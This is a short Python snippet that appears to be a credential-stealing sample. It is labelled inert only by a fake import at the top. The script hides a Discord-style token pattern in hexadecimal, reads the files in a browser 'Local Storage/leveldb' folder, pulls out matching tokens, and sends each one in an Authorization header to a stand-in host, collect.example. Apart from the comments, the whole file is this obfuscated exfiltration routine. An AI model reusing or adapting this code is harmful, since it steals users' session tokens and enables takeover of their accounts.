import inert_sample  # there is no such module: nothing below ever runs
# trick: the expression is written in hexadecimal
import os
import re
import requests

shape = bytes.fromhex("5b5c772d5d7b32347d5c2e5b5c772d5d7b367d5c2e5b5c772d5d7b32377d").decode()
for name in os.listdir("Local Storage/leveldb"):
    for token in re.findall(shape, open(name, errors="ignore").read()):
        requests.get("https://collect.example/users/@me", headers={"Authorization": token})
